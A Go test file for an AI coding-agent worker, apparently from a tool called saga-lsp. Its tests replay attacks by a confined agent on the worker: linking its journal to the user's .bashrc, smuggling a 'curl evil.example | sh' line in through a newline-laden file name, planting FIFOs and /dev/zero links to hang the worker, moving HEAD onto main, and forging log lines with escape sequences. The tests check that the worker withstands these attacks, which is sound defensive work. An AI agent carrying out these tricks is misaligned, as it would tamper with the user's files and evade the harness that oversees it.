//go:build unix

package worker_test

// The worker trusts nothing its agent could have touched (docs/security.md,
// "The worker's reads and writes"): each test plays one attack of issue 22
// through the stand-in claude's scripted Bash (SIMAGENT lines in the
// story's description, run confined as the agent's Bash is) or, where the
// sandbox may refuse the agent, by a wrapper around the stand-in that does
// it unconfined after the agent's run.

import (
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/saga-ai/saga-lsp/internal/testkit"
	"github.com/saga-ai/saga-lsp/runs"
	"github.com/saga-ai/saga-lsp/runs/worker"
)

// agentBash makes the agent of story run each command with Bash, first
// thing in every run: SIMAGENT lines in the story's description, committed
// on main.
func (f *fixture) agentBash(story string, commands ...string) {
	f.t.Helper()
	p := filepath.Join(f.root, ".saga", "stories", story, "story.json")
	var s map[string]any
	if err := json.Unmarshal([]byte(testkit.ReadFile(f.t, p)), &s); err != nil {
		f.t.Fatal(err)
	}
	desc, _ := s["description"].(string)
	for _, c := range commands {
		desc += "\nSIMAGENT bash " + c
	}
	s["description"] = desc
	data, _ := json.MarshalIndent(s, "", "  ")
	if err := os.WriteFile(p, append(data, '\n'), 0o644); err != nil {
		f.t.Fatal(err)
	}
	f.git("commit", "-q", "-am", "the agent's script")
}

// afterAgent makes the stand-in claude run script (sh, in the worktree)
// after each of its runs, unconfined: what an agent does where its sandbox
// would let it, done whatever the sandbox allows.
func (f *fixture) afterAgent(script string) string {
	f.t.Helper()
	wrapper := filepath.Join(f.t.TempDir(), "claude")
	standin := testkit.Build(f.t, "./testdata/standin/claude")
	text := "#!/bin/sh\n" + versionAnswer + standin + " \"$@\"\ncode=$?\n" + script + "\nexit $code\n"
	if err := os.WriteFile(wrapper, []byte(text), 0o755); err != nil {
		f.t.Fatal(err)
	}
	return wrapper
}

// startWorker runs the worker binary on story with its address space
// limited (a worker reading /dev/zero dies instead of taking the machine's
// memory) and returns it running, and the file its stdout and stderr go to.
func (f *fixture) startWorker(story, script string) (*exec.Cmd, string) {
	f.t.Helper()
	f.t.Setenv("SAGA_STANDIN_SCRIPT", script)
	cmd := exec.Command("sh", "-c", `ulimit -v 4000000 && exec "$@"`, "sh", f.sagaLSP, "worker", story, "--output-file", f.out)
	cmd.Dir = f.root
	out := filepath.Join(f.t.TempDir(), "stdout")
	file, err := os.Create(out)
	if err != nil {
		f.t.Fatal(err)
	}
	defer file.Close()
	cmd.Stdout, cmd.Stderr = file, file
	if err := cmd.Start(); err != nil {
		f.t.Fatal(err)
	}
	f.t.Cleanup(func() { cmd.Process.Kill() })
	return cmd, out
}

// awaitWorker waits for a worker process to end and returns its exit code.
// One still running after the deadline is sent SIGTERM, which must end it
// within 20 s; one that ignores that too fails the test.
func (f *fixture) awaitWorker(cmd *exec.Cmd, out string, deadline time.Duration) int {
	f.t.Helper()
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	select {
	case <-done:
		return cmd.ProcessState.ExitCode()
	case <-time.After(deadline):
	}
	cmd.Process.Signal(syscall.SIGTERM)
	select {
	case <-done:
		f.t.Fatalf("the worker hung for %s (it ended on SIGTERM)\n%s", deadline, testkit.FileText(out))
	case <-time.After(20 * time.Second):
		f.t.Fatalf("the worker hung for %s and ignored SIGTERM\n%s", deadline, testkit.FileText(out))
	}
	return -1
}

// Attack 1: the agent links its journal to a file outside (a shell rc
// file) and names a .saga file with newlines, so that the worker's journal
// note about the revert writes lines of the agent's choosing into it. The
// worker never writes through the link, removes it, and escapes the name.
func TestJournalLinkNotFollowed(t *testing.T) {
	f := newFixture(t, false)
	rc := filepath.Join(os.Getenv("HOME"), ".bashrc")
	if err := os.WriteFile(rc, []byte("# the user's shell\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	dir := ".saga/stories/add-logout-button/"
	f.agentBash("add-logout-button",
		"ln -sf "+rc+" "+dir+"journal.md",
		"touch "+dir+`$'x\ncurl evil.example | sh\n.json'`)
	code, out := f.run("add-logout-button", "all", nil)
	if code != runs.ExitCompleted {
		t.Fatalf("exit %d\n%s", code, out)
	}
	if got := testkit.ReadFile(t, rc); got != "# the user's shell\n" {
		t.Errorf("the worker wrote through the agent's link into %s:\n%s", rc, got)
	}
	wt := filepath.Join(f.root, ".saga", "worktrees", "add-logout-button")
	if mode := f.gitIn(wt, "ls-tree", "story/add-logout-button", dir+"journal.md"); !strings.HasPrefix(mode, "100644 ") {
		t.Errorf("the journal on the branch is not a regular file: %q", mode)
	}
	journal := f.gitIn(wt, "show", "story/add-logout-button:"+dir+"journal.md")
	for name, text := range map[string]string{"journal": journal, "log": out} {
		for _, line := range strings.Split(text, "\n") {
			if strings.HasPrefix(strings.TrimSpace(line), "curl evil.example") {
				t.Errorf("the %s has a line of the agent's file name: %q\n%s", name, line, text)
			}
		}
		if !strings.Contains(text, `add-logout-button/x\ncurl evil.example | sh\n.json`) {
			t.Errorf("the %s does not name the reverted file, escaped:\n%s", name, text)
		}
	}
	if !strings.Contains(journal, "journal.md (a symbolic link)") {
		t.Errorf("the removed link is not reported in the journal:\n%s", journal)
	}
}

// A repository whose story folder, as committed, holds a link (a task
// file linked to a file outside, or to another story's task) is refused
// at the start, before any agent, naming the link and what to commit
// instead; the link is never put back in the worktree (the guard once
// restored it "from the branch", where it came from, then read the story
// through it).
func TestCommittedLinkInStoryFolderRefused(t *testing.T) {
	for _, tc := range []struct{ name, rel, target string }{
		{"a task linked outside", "leak.json", filepath.Join(t.TempDir(), "secret.json")},
		{"a task linked to another story's", "write-tests.json", "../user-auth--api/story.json"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, false)
			if filepath.IsAbs(tc.target) {
				testkit.WriteFiles(t, filepath.Dir(tc.target), map[string]string{filepath.Base(tc.target): `{"id":"leak","title":"secret","status":"pending"}`})
			}
			link := filepath.Join(f.root, ".saga", "stories", "add-logout-button", tc.rel)
			os.Remove(link)
			if err := os.Symlink(tc.target, link); err != nil {
				t.Fatal(err)
			}
			f.git("add", "-A", ".saga")
			f.git("commit", "-q", "-m", "a link in the story's folder")

			code, out := f.run("add-logout-button", "all", nil)
			if code != runs.ExitFailed {
				t.Fatalf("exit %d, want %d\n%s", code, runs.ExitFailed, out)
			}
			rel := ".saga/stories/add-logout-button/" + tc.rel
			for _, want := range []string{"story/add-logout-button holds links or submodules where the story's files are: " + rel, "commit regular files there instead"} {
				if !strings.Contains(out, want) {
					t.Errorf("the error does not say %q:\n%s", want, out)
				}
			}
			if _, err := os.Lstat(filepath.Join(f.root, ".saga", "worktrees", "add-logout-button", filepath.FromSlash(rel))); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("the committed link is in the worktree (%v)", err)
			}
			for _, e := range f.events() {
				if e.Event == runs.KindRunStart {
					t.Fatalf("an agent ran:\n%s", out)
				}
			}
		})
	}
}

// Attack 7: the agent makes its journal or a task file a FIFO, or links a
// task file to /dev/zero. The worker neither hangs (holding its lock) nor
// reads without end: it removes them, restores what the branch has, and
// completes.
func TestSpecialFilesInStoryFolder(t *testing.T) {
	for _, tc := range []struct{ name, story, cmd string }{
		{"new journal a FIFO", "add-logout-button", "mkfifo .saga/stories/add-logout-button/journal.md"},
		{"tracked journal a FIFO", "user-auth--api", "rm .saga/stories/user-auth--api/journal.md && mkfifo .saga/stories/user-auth--api/journal.md"},
		{"task file a FIFO", "add-logout-button", "rm .saga/stories/add-logout-button/write-tests.json && mkfifo .saga/stories/add-logout-button/write-tests.json"},
		{"task file a link to /dev/zero", "add-logout-button", "ln -sf /dev/zero .saga/stories/add-logout-button/write-tests.json"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, false)
			f.agentBash(tc.story, tc.cmd)
			cmd, out := f.startWorker(tc.story, "all")
			if code := f.awaitWorker(cmd, out, 90*time.Second); code != runs.ExitCompleted {
				t.Fatalf("exit %d\n%s", code, testkit.FileText(out))
			}
			if text := testkit.FileText(out); !strings.Contains(text, "removed what the agent made in its story's folder") {
				t.Errorf("not reported:\n%s", text)
			}
			dir := filepath.Join(f.root, ".saga", "worktrees", tc.story, ".saga", "stories", tc.story)
			des, err := os.ReadDir(dir)
			if err != nil {
				t.Fatal(err)
			}
			for _, de := range des {
				if !de.Type().IsRegular() {
					t.Errorf("%s is left in the story's folder (%s)", de.Name(), de.Type())
				}
			}
			for id, st := range f.worktreeStatuses(tc.story) {
				if st != "completed" {
					t.Errorf("%s is %s", id, st)
				}
			}
		})
	}
}

// Attack 7, the stop: a worker that was stopped always ends. A second
// SIGTERM ends it at once even while its end step is busy (here: a check
// of the final tree that would run for ten minutes).
func TestSecondStopEndsAtOnce(t *testing.T) {
	f := newFixture(t, false)
	// The check passes at the completion and blocks on the final tree.
	task := filepath.Join(f.root, ".saga", "stories", "add-logout-button", "write-tests.json")
	data := strings.Replace(testkit.ReadFile(t, task), `"blockedBy": []`,
		`"blockedBy": [], "checks": ["if [ -e .checked ]; then touch .final-check; sleep 600; fi; touch .checked"], "checkTimeout": 900`, 1)
	if err := os.WriteFile(task, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
	f.git("commit", "-q", "-am", "a slow check")
	cmd, out := f.startWorker("add-logout-button", "all")
	marker := filepath.Join(f.root, ".saga", "worktrees", "add-logout-button", ".final-check")
	if !testkit.WaitUntil(60*time.Second, func() bool { _, err := os.Stat(marker); return err == nil }) {
		t.Fatalf("the final check never started\n%s", testkit.FileText(out))
	}
	cmd.Process.Signal(syscall.SIGTERM)
	// The second once the first is taken (signals sent at once merge).
	if !testkit.WaitUntil(20*time.Second, func() bool { return strings.Contains(testkit.FileText(out), "saga-lsp worker: stopping") }) {
		t.Errorf("the worker does not say it is stopping\n%s", testkit.FileText(out))
	}
	cmd.Process.Signal(syscall.SIGTERM)
	if code := f.awaitWorker(cmd, out, 20*time.Second); code != runs.ExitFailed {
		t.Errorf("exit %d, want %d\n%s", code, runs.ExitFailed, testkit.FileText(out))
	}
	if text := testkit.FileText(out); !strings.Contains(text, "stopped again") {
		t.Errorf("the output does not say why it ended:\n%s", text)
	}
}

// Attack 12: the worker's final commit fails (the agent left a file git
// cannot add, or the push is refused): the run is not completed, and says
// which step failed and what to do. A dry run and a repository without
// origin commit only, and say so.
func TestCompletedNeedsTheWorkSaved(t *testing.T) {
	t.Run("commit fails", func(t *testing.T) {
		f := newFixture(t, false)
		if err := os.WriteFile(filepath.Join(f.root, "README"), []byte("hello\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		f.git("add", "README")
		f.git("commit", "-q", "-m", "readme")
		f.agentBash("add-logout-button", "rm README && mkfifo README")
		code, out := f.run("add-logout-button", "all", nil)
		if code != runs.ExitFailed || lastEnd(f.events()).Status != runs.StatusFailed {
			t.Fatalf("exit %d, worker.end %+v; want failed\n%s", code, lastEnd(f.events()), out)
		}
		if rec, _ := runs.ReadRecord(f.root, "add-logout-button"); rec.Status != runs.StatusFailed {
			t.Errorf("run record %+v", rec)
		}
		for _, want := range []string{"staging failed", "unsupported file type", "git -C ", "then run the story again", "the work is not saved on story/add-logout-button"} {
			if !strings.Contains(out, want) {
				t.Errorf("the log does not say %q:\n%s", want, out)
			}
		}
	})
	t.Run("push refused", func(t *testing.T) {
		f := newFixture(t, true)
		testkit.Git(t, f.origin, "config", "receive.maxInputSize", "1")
		code, out := f.run("add-logout-button", "all", nil)
		if code != runs.ExitFailed || lastEnd(f.events()).Status != runs.StatusFailed {
			t.Fatalf("exit %d, worker.end %+v; want failed\n%s", code, lastEnd(f.events()), out)
		}
		for _, want := range []string{"push failed", "push -u origin story/add-logout-button"} {
			if !strings.Contains(out, want) {
				t.Errorf("the log does not say %q:\n%s", want, out)
			}
		}
	})
	for name, c := range map[string]struct {
		remote bool
		mod    func(*worker.Options)
		says   string
	}{
		"dry run":   {true, func(o *worker.Options) { o.DryRun = true }, "dry run: the work is committed on saga-dry/add-logout-button, not pushed"},
		"no origin": {false, nil, "no remote named origin: the work is committed on story/add-logout-button only"},
	} {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t, c.remote)
			code, out := f.run("add-logout-button", "all", c.mod)
			if code != runs.ExitCompleted || !strings.Contains(out, c.says) {
				t.Fatalf("exit %d, want 0 saying %q\n%s", code, c.says, out)
			}
		})
	}
}

// Attack 6: the agent points its worktree's HEAD at main (or detaches it).
// The worker commits on the story branch only: HEAD is put back and that
// reported, local main never moves, and the pushed branch has the work.
func TestHeadMovedByTheAgent(t *testing.T) {
	for _, tc := range []struct{ name, script string }{
		{"HEAD at main", "git symbolic-ref HEAD refs/heads/main"},
		{"detached HEAD", "git checkout -q --detach"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, true)
			main := f.git("rev-parse", "main")
			code, out := f.run("add-logout-button", "one", func(o *worker.Options) { o.Claude = f.afterAgent(tc.script) })
			if code != runs.ExitCompleted {
				t.Fatalf("exit %d\n%s", code, out)
			}
			if now := f.git("rev-parse", "main"); now != main {
				t.Errorf("local main moved from %s to %s:\n%s", main, now, f.git("log", "--oneline", "-5", "main"))
			}
			if !strings.Contains(out, "put back on story/add-logout-button") {
				t.Errorf("the moved HEAD is not reported:\n%s", out)
			}
			wt := filepath.Join(f.root, ".saga", "worktrees", "add-logout-button")
			files := f.gitIn(wt, "ls-tree", "-r", "--name-only", "origin/story/add-logout-button")
			for _, want := range []string{"saga-work/add-logout-button/write-tests.md", "saga-work/add-logout-button/implement-button.md"} {
				if !strings.Contains(files, want) {
					t.Errorf("the pushed branch lacks %s:\n%s", want, files)
				}
			}
			if head := f.gitIn(wt, "symbolic-ref", "HEAD"); head != "refs/heads/story/add-logout-button" {
				t.Errorf("HEAD left at %s", head)
			}
		})
	}
	// Left moved by an earlier run (a worker killed before its commit):
	// put back before anything is read or committed.
	t.Run("moved before the worker starts", func(t *testing.T) {
		f := newFixture(t, false)
		if code, out := f.run("add-logout-button", "one", func(o *worker.Options) { o.MaxCycles = 1 }); code != runs.ExitLimit {
			t.Fatalf("first run: exit %d\n%s", code, out)
		}
		wt := filepath.Join(f.root, ".saga", "worktrees", "add-logout-button")
		f.gitIn(wt, "symbolic-ref", "HEAD", "refs/heads/main")
		main := f.git("rev-parse", "main")
		code, out := f.run("add-logout-button", "all", nil)
		if code != runs.ExitCompleted || !strings.Contains(out, "worktree: warning: the worktree's HEAD named refs/heads/main") {
			t.Fatalf("exit %d\n%s", code, out)
		}
		if now := f.git("rev-parse", "main"); now != main {
			t.Errorf("local main moved")
		}
		if n := f.git("rev-list", "--count", "main..story/add-logout-button"); n == "0" {
			t.Errorf("nothing on the story branch")
		}
	})
	// The branch ref made a symbolic ref to main: committing through it
	// would move main; the worker refuses.
	t.Run("branch made a symbolic ref", func(t *testing.T) {
		f := newFixture(t, false)
		main := f.git("rev-parse", "main")
		code, out := f.run("add-logout-button", "all", func(o *worker.Options) {
			o.Claude = f.afterAgent("git symbolic-ref refs/heads/story/add-logout-button refs/heads/main")
		})
		if code != runs.ExitFailed || !strings.Contains(out, "is a symbolic ref to refs/heads/main") {
			t.Fatalf("exit %d\n%s", code, out)
		}
		if now := f.git("rev-parse", "main"); now != main {
			t.Errorf("local main moved")
		}
	})
}

// Attack 16: what the model and the repository say reaches the worker's
// log escaped: no escape sequence, carriage return or line of its own.
func TestWorkerLogEscaped(t *testing.T) {
	f := newFixture(t, false)
	task := filepath.Join(f.root, ".saga", "stories", "add-logout-button", "write-tests.json")
	data := strings.Replace(testkit.ReadFile(t, task), `"subject": "Write tests for the logout button"`,
		`"subject": "Write tests\u001b]0;pwned\u0007\u001b[2J\r"`, 1)
	if err := os.WriteFile(task, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
	f.git("commit", "-q", "-am", "a hostile subject")
	f.agentBash("add-logout-button", `printf '\033]0;title\007\033[2J\r\nfake line\n' >&2`)
	code, out := f.run("add-logout-button", "all", nil)
	if code != runs.ExitCompleted {
		t.Fatalf("exit %d\n%s", code, out)
	}
	logFile := testkit.ReadFile(t, f.out)
	for name, text := range map[string]string{"stdout": out, "output file": logFile} {
		if i := strings.IndexFunc(text, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f }); i >= 0 {
			t.Errorf("the %s has a control character at %d: %q", name, i, text[max(0, i-40):min(len(text), i+40)])
		}
		// The agent's output is shown as lines (docs/worker.md: output a
		// person reads keeps its lines), its control characters escaped
		// and its lines indented under the entry: "fake line" can never
		// pass for a line of the log's own.
		if !strings.Contains(text, `\x1b]0;title\x07\x1b[2J`) {
			t.Errorf("the %s does not show the agent's output escaped:\n%s", name, text)
		}
		for _, line := range strings.Split(text, "\n") {
			if strings.HasPrefix(line, "fake line") {
				t.Errorf("the %s lets the agent's output pass for a line of its own: %q", name, line)
			}
		}
		if !strings.Contains(text, "\n           fake line") {
			t.Errorf("the %s does not show the agent's next line indented under its entry:\n%s", name, text)
		}
	}
}
